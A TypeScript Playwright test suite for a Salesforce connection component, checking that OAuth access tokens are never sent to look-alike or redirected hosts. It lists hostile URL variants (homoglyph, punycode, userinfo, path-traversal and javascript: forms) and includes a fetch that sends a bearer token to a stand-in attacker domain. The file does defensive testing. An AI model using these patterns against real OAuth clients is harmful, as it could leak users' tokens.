import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import {
  allow,
  connectButton,
  connectByPopup,
  openPopup,
  openSite,
  type Site,
  signedIn,
} from '../../support/open-site.ts';
import { shownProblem } from './answers.ts';
import { configurePage, reloadUnprotected } from './configure-page.ts';
import { startRedirector } from './redirector.ts';
import { watchSentTokens } from './sent-tokens.ts';

/** Where a token must never go, however much it looks like the org. */
const lookAlikes = [
  'https://my.salesforce.com.evil.example',
  'https://acme.my.salesforce.com.evil.example',
  'https://evil-salesforce.com',
  'https://evilsalesforce.com',
  'https://salesforce.com',
  'https://acme.my.salesforce.com@evil.example',
  'https://visitor:word@acme.my.salesforce.com',
  'https://acme.my.salesforce.com:8443',
  'https://acme.my.salesforce.com./',
  'https://acme.my.sаlesforce.com',
  'https://xn--acme-9cd.my.salesforce.com',
  'http://acme.my.salesforce.com',
  'https://evil.example/acme.my.salesforce.com',
  'https://evil.example?acme.my.salesforce.com',
  'https://evil.example#.my.salesforce.com',
  'https://acme.my.salesforce.com/services/data',
  'https://evil.example\\.my.salesforce.com',
  '//acme.my.salesforce.com',
  'http://127.0.0.1:1',
  'http://localhost:1',
  'javascript:alert(1)',
  'data:text/plain,acme.my.salesforce.com',
];

describe('where a token may go', () => {
  let site: Site;
  before(async () => {
    site = await openSite({ loggedIn: true });
  });
  const routed: Page[] = [];
  afterEach(async () => {
    site.org.setInstanceUrl(undefined);
    // Else an answer on its way would meet a closed page.
    for (const page of routed.splice(0)) await page.context().unrouteAll({ behavior: 'ignoreErrors' });
    await site.closePages();
  });
  after(() => site.close());

  const form = (page: Page) => page.locator('sf-record-form');
  const table = (page: Page) => page.locator('sf-query-table');

  /** A page that only the kit protects, and the addresses elsewhere that it asks. No such request leaves the machine. */
  async function openUnprotected(attributes: Readonly<Record<string, string>> = {}) {
    const page = await site.open('leaks-connection.html');
    routed.push(page);
    const elsewhere: { url: string; authorization: string | undefined }[] = [];
    const isElsewhere = ({ origin, protocol }: URL) =>
      /^http/.test(protocol) && origin !== site.url && origin !== site.org.url;
    await page.context().route(isElsewhere, (route) => {
      const request = route.request();
      elsewhere.push({ url: request.url(), authorization: request.headers().authorization });
      return route.fulfill({ json: {}, headers: { 'access-control-allow-origin': '*' } });
    });
    await configurePage(page, attributes);
    await reloadUnprotected(page);
    return { page, elsewhere, sent: watchSentTokens(page) };
  }

  it('security 12: a request to another host would be seen', async () => {
    const { page, elsewhere } = await openUnprotected();
    await page.evaluate(() =>
      fetch('https://evil-salesforce.com/x', { headers: { Authorization: 'Bearer x' } }),
    );
    assert.deepEqual(elsewhere, [{ url: 'https://evil-salesforce.com/x', authorization: 'Bearer x' }]);
  });

  it('security 12: refuses each look-alike as instance_url', async () => {
    const { page, elsewhere, sent } = await openUnprotected({ login: 'redirect' });
    for (const url of lookAlikes) {
      site.org.setInstanceUrl(url);
      await connectButton(page).click();
      await page.waitForURL(`${site.org.url}/**`);
      await allow(page);
      const problem = await shownProblem(page);
      assert.match(problem, /names no org address that a token may be sent to/, url);
      assert.match(problem, /instance-hosts/, url);
      assert.deepEqual([elsewhere, sent], [[], []], url);
    }
  });

  it('security 12: refuses a look-alike in a popup’s answer', async () => {
    site.org.setInstanceUrl('https://acme.my.salesforce.com.evil.example');
    const { page, elsewhere, sent } = await openUnprotected();
    await allow(await openPopup(page));
    assert.match(await shownProblem(page), /names no org address that a token may be sent to/);
    assert.deepEqual([elsewhere, sent], [[], []]);
  });

  it('security 12: refuses a look-alike in the user-agent flow', async () => {
    site.org.setInstanceUrl('https://my.salesforce.com.evil.example');
    const { page, elsewhere, sent } = await openUnprotected({ flow: 'user-agent' });
    await allow(await openPopup(page));
    assert.match(await shownProblem(page), /names no org address that a token may be sent to/);
    assert.deepEqual([elsewhere, sent], [[], []]);
  });

  it('security 12: refuses a look-alike that somebody wrote into the storage', async () => {
    const { page, elsewhere, sent } = await openUnprotected({ storage: 'local' });
    await connectByPopup(page);
    await table(page).getByRole('row').nth(3).waitFor();
    await page.getByRole('button', { name: 'Salesforce account: Ada' }).waitFor();
    const org = site.org.url;
    const altered = await page.evaluate((url) => {
      const [[key, text] = ['', '']] = Object.entries(localStorage);
      localStorage.setItem(key, text.replaceAll(url, 'https://my.salesforce.com.evil.example'));
      return localStorage.getItem(key)?.includes('"instanceUrl":"https://my.salesforce.com.evil.example"');
    }, org);
    assert.equal(altered, true);
    sent.splice(0);
    await page.reload();
    await page.getByRole('button', { name: 'Connect to Salesforce' }).waitFor();
    assert.deepEqual([elsewhere, sent], [[], []]);
  });

  it('security 12: refuses a look-alike from the page’s own token source', async () => {
    const { page, elsewhere, sent } = await openUnprotected();
    await page.evaluate(() => {
      const connection = document.querySelector('sf-connection');
      const grant = { accessToken: '00D!x', instanceUrl: 'https://my.salesforce.com.evil.example' };
      if (connection) connection.tokenSource = async () => grant;
    });
    assert.match(await shownProblem(page), /gave no token that can be used/);
    assert.deepEqual([elsewhere, sent], [[], []]);
  });

  const accepted = {
    'https://acme.my.salesforce.com': {},
    'https://acme--dev.sandbox.my.salesforce.com': {},
    'https://api.partner.example': { 'instance-hosts': 'other.example api.partner.example' },
    'https://api.partner.example:8443': { 'instance-hosts': 'API.partner.example:8443' },
  };

  for (const [url, attributes] of Object.entries(accepted)) {
    it(`security 12: sends tokens to ${url}${'instance-hosts' in attributes ? ', which the author lists' : ''}`, async () => {
      site.org.setInstanceUrl(url);
      const { page, elsewhere, sent } = await openUnprotected(attributes);
      await page.context().route(`${url}/**`, async (route) => {
        const address = route.request().url().replace(url, site.org.url);
        return route.fulfill({ response: await route.fetch({ url: address }) });
      });
      await connectByPopup(page);
      await table(page).getByRole('row').nth(3).waitFor();
      assert.ok(sent.length > 0);
      for (const { url: address } of sent) assert.ok(address.startsWith(`${url}/services/data/v`), address);
      assert.deepEqual(elsewhere, []);
    });
  }

  const leadingAway = [
    '//evil.test/next',
    '\\\\evil.test\\next',
    'https://x.evil.test/next',
    'https://{org}@evil.test/next',
    'https://{org}.evil.test/next',
    '@evil.test/next',
    '.evil.test/next',
    '/services/../../evil',
    '/services/data/v66.0/../../../evil',
    '/services/data/%2e%2e/%2e%2e/evil',
    '/services/oauth2/userinfo',
    'javascript:alert(1)',
  ];

  it('security 13: takes no token along to an address elsewhere, wherever an answer names it', async () => {
    const { page, elsewhere, sent } = await openUnprotected();
    let away = '';
    await page.context().route(`${site.org.url}/services/data/**`, async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers(), location: away };
      await route.fulfill({ response, headers, body: leadAway(await response.text(), away) });
    });
    for (const address of leadingAway) {
      away = address.replace('{org}', new URL(site.org.url).host);
      await connectByPopup(page);
      await table(page)
        .getByRole('button', { name: /Show more|Try again/ })
        .first()
        .click();
      await table(page).getByRole('alert').waitFor();
      await form(page).getByLabel('Account Name').fill('Led away');
      await form(page).getByRole('button', { name: 'Save' }).click();
      await form(page).getByText('Account created.').waitFor();
      assert.deepEqual(elsewhere, [], address);
      const urls = sent.splice(0).map(({ url }) => url);
      assert.ok(urls.length > 2, 'what is read in one call, the query and the save were sent');
      for (const url of urls) assert.ok(url.startsWith(`${site.org.url}/services/data/v66.0/`), url);
      await page.reload();
    }
  });

  for (const status of [301, 302, 303, 307, 308]) {
    it(`security 13: follows no redirect with status ${status} with a token`, async () => {
      const redirector = await startRedirector({
        status,
        path: /^\/services\/data\/v/,
        orgUrl: site.org.url,
      });
      site.org.setInstanceUrl(redirector.url);
      const page = await site.open('leaks-connection.html');
      await configurePage(page, { 'instance-hosts': new URL(redirector.url).host });
      await reloadUnprotected(page);
      await allow(await openPopup(page));
      await signedIn(page);
      await table(page).getByRole('alert').waitFor();
      assert.ok(redirector.redirected().some(({ authorization }) => authorization?.startsWith('Bearer 00D')));
      assert.deepEqual(redirector.followed(), []);
      await redirector.close();
    });
  }

  for (const status of [307, 308]) {
    it(`security 13: follows no redirect with status ${status} with a code`, async () => {
      const redirector = await startRedirector({
        status,
        path: /^\/services\/oauth2\/token/,
        orgUrl: site.org.url,
      });
      const page = await site.open('leaks-connection.html');
      await configurePage(page, { 'login-url': redirector.url });
      await reloadUnprotected(page);
      await allow(await openPopup(page));
      assert.match(await shownProblem(page), /No answer from .* could be read/);
      assert.equal(redirector.redirected().length, 1);
      assert.deepEqual(redirector.followed(), []);
      await redirector.close();
    });
  }
});

/** Puts an address into every place of a REST answer that names one. */
function leadAway(body: string, address: string): string {
  if (!body.startsWith('{')) return body;
  const rewritten = JSON.parse(body, (key, value) => {
    const isMap = (key === 'urls' || key === 'photos') && value !== null && typeof value === 'object';
    if (isMap) return Object.fromEntries(Object.keys(value).map((name) => [name, address]));
    return typeof value === 'string' && /url$/i.test(key) ? address : value;
  });
  if (!Array.isArray(rewritten.records)) return JSON.stringify(rewritten);
  return JSON.stringify({ ...rewritten, done: false, nextRecordsUrl: address, totalSize: 99 });
}
